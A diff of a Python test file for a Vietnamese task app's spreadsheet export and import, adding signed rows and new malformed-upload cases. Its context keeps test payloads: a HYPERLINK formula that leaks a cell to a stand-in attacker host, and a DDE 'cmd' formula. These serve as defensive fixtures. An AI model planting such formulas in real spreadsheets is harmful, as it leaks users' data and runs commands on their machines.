@@ -14,6 +14,7 @@ from lib.models import AuditEvent, Task, User
 from lib.roles import PermissionDenied
 from lib.seed import DEMO_TODAY, seed_demo
 
+KEY = "the server's cookie key " * 2  # signs each exported row's "Mã kiểm tra"
 PAYLOADS = (
     '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
     "=cmd|' /C calc'!A0",
@@ -98,9 +99,7 @@ def exported(engine, locality="viet-yen") -> bytes:
     """What a coordinator downloads from the task page: every task of the locality."""
     with transaction(engine) as s:
         rows = queries.list_tasks(s, Filters(localities=(locality,)), DEMO_TODAY, 30, offset=0, limit=10_000)
-    sheet = export.Sheet(
-        "Nhiệm vụ", "Danh sách", DEMO_TODAY, export.TASK_LAYOUT, [export.readable(r) for r in rows]
-    )
+    sheet = export.Sheet("Nhiệm vụ", "Danh sách", DEMO_TODAY, export.TASK_LAYOUT, export.task_rows(rows, KEY))
     return export.workbook_bytes([sheet])
 
 
@@ -128,7 +127,7 @@ def preview_of(engine, who, data):
     parsed = importer.read_xlsx(data, edits.TASKS, export.TASK_LAYOUT)
     with transaction(engine) as s:
         current = importer.load_current(s, who, edits.TASKS, parsed)
-    return importer.build_preview(edits.TASKS, who, parsed, current, DEMO_TODAY)
+    return importer.build_preview(edits.TASKS, who, parsed, current, DEMO_TODAY, KEY)
 
 
 def test_export_then_import_of_the_same_view_changes_nothing(demo):
@@ -237,7 +236,7 @@ def _workbook(rows: list[list[object]]) -> bytes:
     return out.getvalue()
 
 
-HEADERS = ["Mã", "Ghi chú", "Phiên bản"]
+HEADERS = ["Mã", "Ghi chú", "Phiên bản", "Mã kiểm tra"]
 
 
 def _malformed(engine) -> dict[str, tuple[bytes, str]]:
@@ -246,32 +245,42 @@ def _malformed(engine) -> dict[str, tuple[bytes, str]]:
     formula = Workbook()
     ws = formula.active
     ws.append(HEADERS)
-    ws.append([own, "=1+1", 1])
+    ws.append([own, "=1+1", 1, "x"])
     formula_bytes = io.BytesIO()
     formula.save(formula_bytes)
     return {
         "not an xlsx": (b"Ma,Ghi chu\n1,x\n", "không phải bảng tính Excel"),
         "a zip that is not a workbook": (
             _zip_of({"hello.txt": b"x"}),
-            "không phải bảng tính Excel (.xlsx) hợp lệ",
+            "Tệp có thành phần không thuộc một bảng cập nhật nhiệm vụ: “hello.txt”",
         ),
         "a formula in a data cell": (formula_bytes.getvalue(), "Ô B2 chứa công thức"),
-        "10,000 rows": (_workbook([HEADERS, *[[i, "x", 1] for i in range(1, 10_001)]]), "hơn 5.000 dòng"),
+        "10,000 rows": (
+            _workbook([HEADERS, *[[i, "x", 1, "x"] for i in range(1, 10_001)]]),
+            "quá nhiều dòng (tối đa 5.000 dòng dữ liệu)",
+        ),
         # a spreadsheet cell holds 32.767 characters: openpyxl writes the first 32.767 of the 1 MB
         "1 MB in one cell": (
-            _workbook([HEADERS, [own, "x" * 1_000_000, 1]]),
+            _workbook([HEADERS, [own, "x" * 1_000_000, 1, "x"]]),
             "Ô B2 dài 32.767 ký tự, tối đa 5.000",
         ),
         "wrong columns": (_workbook([["Mã", "Tên", "Phiên bản"], [own, "x", 1]]), "cột không nhận ra: “Tên”"),
         "no id column": (_workbook([["Ghi chú"], ["x"]]), "Không tìm thấy dòng tiêu đề"),
-        "a text id": (_workbook([HEADERS, ["abc", "x", 1]]), "“abc” không phải mã dòng"),
-        "an id past the column": (_workbook([HEADERS, [10**20, "x", 1]]), "không phải mã dòng"),
+        "a text id": (_workbook([HEADERS, ["abc", "x", 1, "x"]]), "“abc” không phải mã dòng"),
+        "an id past the column": (_workbook([HEADERS, [10**20, "x", 1, "x"]]), "không phải mã dòng"),
         "broken XML inside": (
-            _with_text(_workbook([HEADERS, [own, "x", 1]]), "<cellXfs", "<cellXfs <<"),
-            "không phải bảng tính Excel (.xlsx) hợp lệ",
+            _with_text(_workbook([HEADERS, [own, "x", 1, "x"]]), "<cellXfs", "<cellXfs <<"),
+            "Phần “xl/styles.xml” của tệp không phải XML hợp lệ",
         ),
-        "a fractional version": (_workbook([HEADERS, [own, "x", 1.5]]), "không phải số phiên bản"),
-        "the same row twice": (_workbook([HEADERS, [own, "x", 1], [own, "y", 1]]), "xuất hiện hai lần"),
+        "a fractional version": (_workbook([HEADERS, [own, "x", 1.5, "x"]]), "không phải số phiên bản"),
+        "the same row twice": (
+            _workbook([HEADERS, [own, "x", 1, "x"], [own, "y", 1, "x"]]),
+            "xuất hiện hai lần",
+        ),
+        "a file exported before rows were signed": (
+            _workbook([HEADERS[:3], [own, "x", 1]]),
+            "Tệp thiếu cột “Mã kiểm tra”",
+        ),
     }
 
 
